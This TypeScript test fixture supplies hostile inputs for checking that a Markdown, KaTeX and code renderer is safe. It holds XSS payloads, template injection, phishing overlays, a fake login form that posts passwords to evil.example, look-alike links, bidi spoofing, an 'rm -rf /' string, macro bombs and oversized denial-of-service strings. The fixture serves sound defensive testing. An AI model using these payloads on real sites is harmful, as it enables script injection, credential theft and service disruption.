/**
 * Texts made to run code, reach other servers, imitate the page, break its layout or stop it. The renderer's
 * tests and the browser journey over the labeling page both go through all of them.
 *
 * Whatever would run sets `window.pwned`; whatever would be fetched lies on evil.example.
 */
export const hostileTexts: Readonly<Record<string, string>> = {
  ...html(),
  ...embedded(),
  ...links(),
  ...formulas(),
  ...code(),
  ...unicode(),
  ...sizes(),
};

function html(): Record<string, string> {
  const js = "window.pwned=1";
  return {
    "script element": `<script>${js}</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
    "image with onerror": `<img src=x onerror=${js}><img/src="https://evil.example/i.png">`,
    "event handlers of every kind": `<b onmouseover=${js} onfocus=${js} onpointerenter=${js} tabindex=0 autofocus>b</b><details open ontoggle=${js}>`,
    "animation that starts a handler": `<style>@keyframes x{}</style><p style="animation:x" onanimationstart=${js}>`,
    "autofocused input": `- [ ] <input autofocus onfocus=${js}>\n- [x] <select autofocus onfocus=${js}>`,
    "video and audio": `<video src=//evil.example/v onloadstart=${js} autoplay></video><audio src=x onerror=${js}>`,
    "unclosed tag": `<img src=x onerror="${js}" `,
    "tag split over lines": `<scr\nipt>${js}</scr\nipt>\n\n<scr<script>ipt>${js}</script>`,
    "comment tricks": `<!--><img src=x onerror=${js}>-->\n\n<!-- -- --!><script>${js}</script>`,
    "conditional comment and CDATA": `<!--[if IE]><script>${js}</script><![endif]--><![CDATA[<script>${js}</script>]]>`,
    "processing instruction and doctype": `<?php echo 1 ?><!DOCTYPE x [<!ENTITY a SYSTEM "https://evil.example">]>`,
    "entities that decode to a tag": `&lt;script&gt;${js}&lt;/script&gt; &#60;img src=x onerror=${js}&#62; &#x3c;svg/onload=${js}&#x3e;`,
    "entity without semicolon and overlong":
      "&lt &#0000000000060 &#x110000; &#0; &#xD800; &notanentity; &amp;lt;script&amp;gt;",
    "closing tags of our page":
      "</article></main></body></html></div></div></div><h1>Your account was closed</h1>",
    "mutation by namespaces": `<math><mtext><table><mglyph><style><img src=x onerror=${js}></style></mglyph></table></mtext></math>`,
    "noscript, template, textarea, title": `<noscript><p title="</noscript><img src=x onerror=${js}>"><textarea></textarea><template><script>${js}</script></template><title></title>`,
    "DOM clobbering":
      '<a id=pwned></a><form id=main name=getElementById><input name=cookie id=location></form><img name="querySelector">',
    "inline HTML in a table": `| <b onclick=${js}>a</b> |\n|---|\n| <img src=x onerror=${js}> |`,
    "HTML in a footnote": `Text[^1]\n\n[^1]: <img src=x onerror=${js}> [back](javascript:${js})`,
    "HTML in a heading and a quote": `# <svg onload=${js}>\n\n> <iframe srcdoc="<script>parent.${js}</script>">`,
  };
}

function embedded(): Record<string, string> {
  const js = "window.pwned=1";
  return {
    "SVG with script": `<svg onload=${js}><script>${js}</script><image href="https://evil.example/i.svg" onerror=${js}/></svg>`,
    "SVG foreignObject, use and animate": `<svg><foreignObject><img src=x onerror=${js}></foreignObject><use href="data:image/svg+xml,#x"/><animate onbegin=${js} attributeName=x dur=1s></svg>`,
    "SVG link with set": `<svg><a><set attributeName=href to=javascript:${js} /><text y=20>click</text></a></svg>`,
    "MathML with links": `<math href="javascript:${js}">x</math><math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${js}">y</maction></math>`,
    iframes: `<iframe src="javascript:${js}"></iframe><iframe srcdoc="&lt;script&gt;parent.${js}&lt;/script&gt;"></iframe>`,
    "object, embed and applet": `<object data="javascript:${js}"></object><embed src="https://evil.example/x.swf"><applet code=x></applet>`,
    "meta refresh": `<meta http-equiv="refresh" content="0;url=https://evil.example"><meta http-equiv=Set-Cookie content=a=b>`,
    "base and link":
      '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css"><link rel=preload as=script href=//evil.example/y>',
    "form to somewhere else":
      '<form action="https://evil.example" method=post><input name=password type=password><button formaction="javascript:window.pwned=1">Sign in again</button></form>',
    "style that hides the page":
      "<style>*{display:none!important} body{background:url(https://evil.example/bg)}</style>",
    "style attribute over the page":
      '<div style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example)">Session expired</div>',
    "CSS import and expression":
      '<style>@import "https://evil.example/x.css"; a{width:expression(window.pwned=1)}</style>',
    "templates of frameworks":
      '{{constructor.constructor(\'window.pwned=1\')()}} #{window.pwned=1} <%= 7*7 %> #{7*7} [[7*7]] v-html="x" ng-init="window.pwned=1"',
    "marquee and blink": "<marquee onstart=window.pwned=1>x</marquee><blink>y</blink>",
    "dialog and popover":
      "<dialog open>Sign in</dialog><div popover id=p>x</div><button popovertarget=p autofocus>y</button>",
  };
}

function links(): Record<string, string> {
  const js = "window.pwned=1";
  return {
    "javascript links": `[a](javascript:${js}) [b](JaVaScRiPt:${js}) [c](javascript://%0a${js}) [d](javascript&colon;${js}) [e](&#106;avascript:${js})`,
    "javascript links with control characters": `[a](java\tscript:${js}) [b](<java\nscript:${js}>) [c](\u0001javascript:${js}) [d](<  javascript:${js}>) [e](\u00a0javascript:${js})`,
    "data and vbscript links":
      "[a](data:text/html,<script>window.pwned=1</script>) [b](data:text/html;base64,PHNjcmlwdD4=) [c](vbscript:msgbox) [d](livescript:x)",
    "links to files and blobs":
      "[a](file:///etc/passwd) [b](blob:https://x/y) [c](filesystem:https://x/y) [d](about:blank) [e](view-source:https://x) [f](intent://x#Intent;end)",
    "links that stay on this site":
      "[a](/api/sign-out) [b](//evil.example) [c](?next=x) [d](#main) [e](../projects) [f](\\\\evil.example)",
    autolinks: `<javascript:${js}> <data:text/html,x> https://evil.example/<script> www.evil.example javascript:${js} <mailto:a@evil.example?bcc=b@evil.example>`,
    "reference links": `[x]: javascript:${js}\n[y]: <data:text/html,x> "title"\n[__proto__]: https://evil.example\n\n[x], [y], ![x], [__proto__]`,
    images:
      '![a](https://evil.example/track.png) ![b](javascript:window.pwned=1) ![c](data:image/svg+xml;base64,PHN2Zz4=) ![d](//evil.example "onerror=window.pwned=1")',
    "image within a link": `[![x](https://evil.example/i.png)](javascript:${js})`,
    "quotes that end the attribute": `[a](https://evil.example/"onmouseover="${js}) [b](https://evil.example 'x" onclick="${js}') [c](<https://evil.example/><img src=x onerror=${js}>)`,
    "link with user name and a look-alike":
      "[https://bank.example](https://bank.example@evil.example/) [раypal.com](https://xn--ypal-43d9g.example) https://еvil.example",
    "very long link": `[short](https://evil.example/${"a".repeat(5_000)}) https://evil.example/${"b".repeat(3_000)}`,
    "invalid links":
      "[a](http://) [b](https://[::1) [c](http://%) [d](https:evil.example) [e](mailto:) [f]()",
    "footnote that names our ids": "a[^main] b[^user-content-1]\n\n[^main]: x\n\n[^user-content-1]: y",
  };
}

function formulas(): Record<string, string> {
  return {
    "KaTeX links":
      "$$\\href{javascript:window.pwned=1}{x} \\url{javascript:window.pwned=1} \\href{https://evil.example}{y}$$",
    "KaTeX images": "$$\\includegraphics[height=9em]{https://evil.example/i.png}$$",
    "KaTeX classes, ids, styles and data":
      "$$\\htmlClass{fixed inset-0}{x}\\htmlId{main}{y}\\htmlStyle{position:fixed;inset:0}{z}\\htmlData{x=1}{w}$$",
    "KaTeX macro bomb":
      "$$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\a\\a}\\a$$ $$\\newcommand{\\x}{\\x\\x}\\x$$ $$\\gdef\\y{\\y}\\y$$",
    "KaTeX macro of exponential size": `$$${Array.from("abcdefghij", (name, i) => `\\def\\q${name}{${`\\q${"bcdefghijk"[i]}`.repeat(9)}}`).join("")}\\def\\qk{x}\\qa$$`,
    "KaTeX giant sizes":
      "$$\\rule{99999em}{99999em}\\kern{9999em}\\raisebox{9999em}{x}\\hspace{-9999em}\\genfrac{}{}{9999em}{}{a}{b}$$",
    "KaTeX colours and boxes":
      "$$\\colorbox{url(https://evil.example)}{x}\\color{red;position:fixed}y\\fcolorbox{red}{expression(1)}{z}$$",
    "KaTeX markup":
      "$$<img src=x onerror=window.pwned=1> \\text{<script>window.pwned=1</script>} \\unicode{x3c}$$",
    "wide formula that can't be broken": `so $\\frac{${"a".repeat(400)}}{b}$ and $$\\sqrt{${"xyz".repeat(300)}}$$`,
    "formula of sixty thousand characters": `$$${"x+".repeat(29_000)}y$$`,
    "deeply nested formula": `$$${"\\frac{1}{".repeat(3_000)}x${"}".repeat(3_000)}$$`,
    "ten thousand formulas": "$a$ ".repeat(10_000),
    "broken formulas": "$$\\frac{1$$ $\\begin{matrix}$ \\[ \\left( \\] $$$$ $$\\end{x}$$ \\(\\)",
  };
}

function code(): Record<string, string> {
  return {
    "language with a tag":
      '```js"><img src=x onerror=window.pwned=1>\n</code></pre><script>window.pwned=1</script>\n```',
    "language of ten thousand characters": `\`\`\`${"x".repeat(10_000)}\ncode\n\`\`\``,
    "language of a prototype":
      "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```toString hasOwnProperty\nx\n```",
    "unclosed fence": `\`\`\`html\n<script>window.pwned=1</script>\n${"line\n".repeat(200)}`,
    "catastrophic for a grammar": `\`\`\`ini\n${"_".repeat(50_000)}\n\`\`\``,
    "catastrophic for many grammars": ["c", "bash", "graphql", "typescript", "perl", "r", "swift"]
      .map((language) => `\`\`\`${language}\n${"a".repeat(7_000)}\n\`\`\``)
      .join("\n\n"),
    "code of thousands of empty lines": `\`\`\`bash\n${"\n".repeat(3_000)}\`\`\``,
    "fences in fences": "``````\n`````\n````\n```\n``\n`\n```\n````\n`````\n``````\n\n~~~\n```\n~~~",
    "mermaid and math fences":
      '```mermaid\ngraph TD; A-->B; click A "javascript:window.pwned=1"\n```\n\n```math\n\\href{javascript:window.pwned=1}{x}\n```',
  };
}

function unicode(): Record<string, string> {
  return {
    "bidi overrides":
      "Transfer \u202E001$\u202C to \u202Dabc\u202C, file \u202Egpj.exe, never closed: \u202E\u202E\u202E tfel ot thgir",
    "bidi isolates and marks":
      "\u2066left\u2069 \u2067right\u2069 \u2068first\u2069 unclosed \u2067\u2067 \u200F\u200E\u061C end",
    "bidi in code":
      "```js\nif (isAdmin /*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */) {}\n```",
    "zero-width characters": `in\u200Bvis\u200Cib\u200Dle \uFEFF\u2060\u180E\u00AD ${"\u200B".repeat(5_000)} end`,
    zalgo: Array.from(
      "Hear me out: the answer climbs over the page",
      (c) => c + "\u0301\u0353\u036B\u0489".repeat(60),
    ).join(""),
    "right-to-left with formulas and code":
      "\u200Fالجواب هو $x^2$ و `rm -rf /` ثم [رابط](https://evil.example/مسار) **مهم** 123-456\n\n1. أولا\n2. ثانيا",
    homoglyphs: "Ѕеlесt А: thе оthеr аnѕwеr іѕ brоkеn. А іs bеttеr",
    "control characters":
      "bell\u0007 back\u0008space esc\u001b[31mred vertical\u000b form\u000c\u001f del\u007f c1\u0085\u009b line\u2028para\u2029 end\r\nnext\rlast",
    "null characters": "a\u0000b\u0000\u0000<scr\u0000ipt>window.pwned=1</scr\u0000ipt>",
    "lone surrogates": "high \ud83d low \ude00 reversed \ude00\ud83d end",
    "noncharacters, private use, tags":
      "\uFFFE\uFFFF \u{10FFFF} \uE000 \u{E0041}\u{E0042}\u{E007F} \uFFF9ruby\uFFFAtext\uFFFB",
    "very wide and very tall characters":
      "\uFDFD\u{12219}\u2E3B\u{1242B}".repeat(40) + "\u{102CA}\u0BF5\uA9C5".repeat(40),
    "emoji without end": `${"👩\u200D".repeat(2_000)}👩 ${"🏴".repeat(300)} ${"a\uFE0F\u20E3".repeat(500)}`,
    "combining marks alone": "\u0336".repeat(20_000),
  };
}

function sizes(): Record<string, string> {
  return {
    "quotes without end": ">".repeat(50_000),
    "quotes and lists within each other": "> - 1. ".repeat(5_000),
    "lists without end": `${"+ ".repeat(20_000)}x`,
    "lists indented ever deeper": Array.from({ length: 300 }, (_, depth) => `${"  ".repeat(depth)}- a`).join(
      "\n",
    ),
    "emphasis within emphasis": `${"**a *b ".repeat(3_000)}${"c* d**".repeat(3_000)}`,
    "delimiters that never match": "*_".repeat(25_000),
    "brackets without end": `${"[".repeat(25_000)}${"](".repeat(10_000)}`,
    "backticks of every length": Array.from({ length: 300 }, (_, i) => "`".repeat(i + 1)).join(" "),
    "giant table": `|${"a|".repeat(700)}\n|${"-|".repeat(700)}\n${`|${"b|".repeat(700)}\n`.repeat(30)}`,
    "wide table": `|${"a wide cell|".repeat(60)}\n|${"-|".repeat(60)}\n${`|${"value|".repeat(60)}\n`.repeat(4)}`,
    "thousands of headings": "# a\n".repeat(12_000),
    "thousands of references": `${Array.from({ length: 1_500 }, (_, i) => `[a${i}]: https://evil.example/${i}`).join("\n")}\n\n${"[a1] ".repeat(3_000)}`,
    "thousands of links": "www.a.example ".repeat(3_500),
    "line of a hundred thousand columns": "column".repeat(17_000),
    "line with spaces, a hundred thousand columns": "a column ".repeat(11_200),
    "ten thousand words": Array.from(
      { length: 10_000 },
      (_, i) => ["river", "stone", "sea", "and", "sand"][i % 5] + (i % 97 === 96 ? ".\n\n" : ""),
    ).join(" "),
    "ten thousand lines": "short line\n".repeat(10_000),
    "one line of five megabytes": "5".repeat(5_000_000),
    "five megabytes of Markdown": "**bold** [link](https://evil.example) $x$ `code`\n\n".repeat(100_000),
    "nothing but white space": " \t\n\u00a0\u3000".repeat(2_000),
    "pre-formatted art": `${" ".repeat(2_000)}*\n${"\t".repeat(500)}+\n    ${"#".repeat(3_000)}`,
  };
}
